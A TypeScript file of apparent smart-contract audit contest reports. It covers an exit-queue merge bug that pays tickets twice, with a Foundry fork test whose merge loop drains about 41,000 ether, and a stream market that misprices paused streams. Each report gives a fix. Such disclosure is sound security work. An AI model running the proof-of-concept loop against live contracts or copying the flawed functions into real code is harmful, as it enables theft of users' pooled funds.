/** The longer reports of past contests, with code. */

export const exitPaidTwice = `## Summary

\`ExitQueue.mergeTickets\` adds the amount of one exit ticket to another and keeps both. Each of them is redeemed in full, so that one share leaves the pool twice. Whoever stands last in the queue is not paid.

## Root cause

The second ticket is marked as merged only in the event:

\`\`\`solidity
function mergeTickets(uint256 into, uint256 from) external {
    Ticket storage a = tickets[into];
    Ticket storage b = tickets[from];
    require(a.owner == msg.sender && b.owner == msg.sender, "owner");

    a.amount += b.amount;
    a.readyAt = Math.max(a.readyAt, b.readyAt);
    // b keeps its amount and its place in the queue
    emit TicketsMerged(into, from, a.amount);
}
\`\`\`

\`redeem\` reads \`tickets[id].amount\` and has no other way to know that the ticket is gone.

## Impact

- The queue held 41,208 of 66,900 staked tokens at block 23,870,400, which is **61.6% of total funds**.
- Merging back and forth doubles the claim each time: eleven calls claim everything.
- No role, no price move and no trusted party is involved.

## Mitigation

Delete the ticket before its amount is added:

\`\`\`solidity
uint256 amount = b.amount;
delete tickets[from];
a.amount += amount;
\`\`\``

export const exitPaidTwiceProof = `Run against a fork with \`forge test --match-test mergeTwice -vv\`:

\`\`\`solidity
function test_mergeTwice() public {
    vm.createSelectFork("mainnet", 23_870_400);
    pool.deposit{value: 2 ether}();
    (uint256 a, uint256 b) = (queue.exit(1 ether), queue.exit(1 ether));
    for (uint256 i; i < 11; ++i) {
        queue.mergeTickets(a, b);
        (a, b) = (b, a);
    }
    vm.warp(queue.readyAt(a));
    queue.redeem(a);
    assertGt(address(this).balance, 41_000 ether);
}
\`\`\`

\`\`\`text
[PASS] test_mergeTwice() (gas: 388214)
  queue before  41208.000 eth
  queue after       0.731 eth
\`\`\``

export const staleStream = `## Summary

A paused stream pays nothing, but \`StreamMarket.quote\` prices it as if it ran. A receiver who is also the sender pauses, sells and cancels, and the buyer is left with a stream that never pays.

## Root cause

\`\`\`solidity
function quote(uint256 id) public view returns (uint256) {
    Stream memory s = streams.get(id);
    // s.pausedAt is not read
    return (s.endsAt - block.timestamp) * s.rate;
}
\`\`\`

\`Stream.pause\` moves \`endsAt\` only when the stream is resumed.

## Impact

The market buys with the deposits of everyone who lends to it: 2.1 of 3.4 million dollars, **62% of total funds**, in one transaction per stream.

## Mitigation

Price a paused stream by \`s.pausedAt\`, and refuse to buy it while it is paused.`
